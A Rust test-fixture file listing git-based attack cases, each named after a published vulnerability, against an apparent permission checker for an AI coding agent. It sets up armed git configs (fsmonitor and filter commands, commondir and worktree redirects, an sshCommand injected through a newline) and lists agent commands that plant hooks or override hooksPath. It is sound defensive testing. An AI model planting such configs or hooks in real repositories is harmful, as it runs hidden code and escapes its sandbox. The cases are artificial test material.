//! Published attacks by files in a repository that programs obey when they are started there.

use super::case::OnDisk::{File, Folder, Link, Repository};
use super::case::{Case, command, program, write};

/// Settings as git writes them for a new repository.
const PLAIN: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";

/// Settings with which git starts a program to see what has changed.
const ARMED: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \": > {marker}; false\"\n";

pub(super) const CASES: &[Case] = &[
    Case {
        id: "CVE-2026-45033",
        attack: "a bare repository that came with a clone names a program, and git finds it first",
        on_disk: &[Repository(".git", PLAIN), Repository("fix/b", ARMED)],
        tries: &[
            command("git status").allowed(),
            command("cd fix/b && git status"),
            command("cd fix && cd b && git diff"),
            command("(cd fix/b; git ls-files -m)"),
            command("git -C fix/b status"),
            command("git -C fix -C b status"),
            command("git --git-dir=fix/b status"),
            command("GIT_DIR=fix/b git status"),
            command("pushd fix/b && git status"),
            command("for d in fix/b; do cd $d; git status; done"),
            command("cd \"$x\" && git status"),
            command("git status").below("fix/b"),
            command("git diff").below("fix/b"),
        ],
    },
    Case {
        id: "CVE-2026-19593",
        attack: "attributes and a filter of the repository start a program",
        on_disk: &[
            Repository(
                ".git",
                "[core]\n\tbare = false\n[filter \"x\"]\n\tclean = \": > {marker}\"\n\tprocess = \": > {marker}\"\n",
            ),
            File(".git/info/attributes", "* filter=x\n"),
        ],
        tries: &[
            command("git status"),
            command("git diff"),
            command("git -c attr.tree=HEAD diff"),
            command("git --attr-source=HEAD diff"),
            command("git config attr.tree HEAD"),
            command("echo '* filter=x' > .git/info/attributes").asked(),
            write(".git/info/attributes"),
            write(".git/config"),
        ],
    },
    Case {
        id: "CVE-2026-19592",
        attack: "the tool itself starts git where a repository names programs",
        on_disk: &[
            Repository(".git", ARMED),
            File("SKILL.md", "---\nname: work\ndescription: Sorts photos.\n---\nSort them.\n"),
        ],
        tries: &[
            command("git status"),
            program(&["scan", "."]),
            program(&["skill", "check", "."]),
            program(&["check", "path", "--write", "x"]),
            program(&["check", "command", "git status"]),
            program(&["config", "show"]),
            program(&["audit", "verify"]),
            program(&["limits", "status"]),
        ],
    },
    Case {
        id: "CVE-2026-40068",
        attack: "a file `commondir` makes git take its settings from elsewhere",
        on_disk: &[
            File(".git/HEAD", "ref: refs/heads/main\n"),
            File(".git/commondir", "../evil\n"),
            File("evil/config", ARMED),
            Folder("evil/objects"),
            Folder("evil/refs"),
        ],
        tries: &[
            command("git status"),
            command("git diff"),
            command("echo ../evil > .git/commondir").asked(),
            write(".git/commondir"),
        ],
    },
    Case {
        id: "CVE-2026-55607",
        attack: "the file `.git` of a linked worktree leads elsewhere",
        on_disk: &[
            Repository(".git", PLAIN),
            File("tree/.git", "gitdir: ../store/x\n"),
            Repository("store/x", ARMED),
        ],
        tries: &[
            command("cd tree && git status"),
            command("git -C tree status"),
            command("git status").below("tree"),
            command("echo 'gitdir: ../store/x' > tree/.git"),
            write("tree/.git"),
        ],
    },
    Case {
        id: "Claude Code 2.1.232, nested",
        attack: "a repository within the workspace inherits its trust",
        on_disk: &[Repository(".git", PLAIN), Repository("vendor/lib/.git", ARMED)],
        tries: &[
            command("cd vendor/lib && git status"),
            command("git -C vendor/lib status"),
            command("git status").below("vendor/lib"),
            write("vendor/lib/.git/config"),
            write("vendor/lib/.git/hooks/post-checkout"),
        ],
    },
    Case {
        id: "CVE-2026-45571",
        attack: "the path of a submodule leads into `.git`",
        on_disk: &[Repository(".git", PLAIN)],
        tries: &[
            command("git submodule add https://x.example/y .git/hooks"),
            command("git submodule update --init"),
            command("git clone https://x.example/y .git/modules/y").asked(),
            write(".git/modules/y/hooks/post-checkout"),
            write(".git/modules/y/config"),
            write(".GIT/config"),
            write("sub/.Git/config"),
            write(".git/../.git/config"),
            write(".g\u{200c}it/config"),
        ],
    },
    Case {
        id: "CVE-2026-69097",
        attack: "a line end in the name of a section writes settings of git",
        on_disk: &[Repository(".git", PLAIN)],
        tries: &[
            command("git config 'submodule.x\"]\n[core]\nsshCommand = ./payload.path' y"),
            command("git config --file=.gitmodules 'submodule.x\n.path' y"),
            command("git submodule set-url x $'a\\n[core]sshCommand=./payload'"),
            command("printf '[core]\\nsshCommand=./payload' >> .git/config").asked(),
            write(".git/config"),
        ],
    },
    Case {
        id: "CVE-2026-26268",
        attack: "an agent writes hooks, and the next git command runs them",
        on_disk: &[Repository(".git", PLAIN), Folder(".git/hooks"), Link("h", ".git/hooks")],
        tries: &[
            write(".git/hooks/pre-commit"),
            write("h/pre-commit"),
            command("echo ./payload > .git/hooks/pre-commit").asked(),
            command("cp payload .git/hooks/post-checkout").asked(),
            command("ln -s ../../payload .git/hooks/post-merge").asked(),
            command("tee .git/hooks/pre-push < payload").asked(),
            command("cd .git && echo x > hooks/pre-commit").asked(),
            command("git config core.hooksPath h"),
            command("git -c core.hooksPath=h commit -m x"),
        ],
    },
];
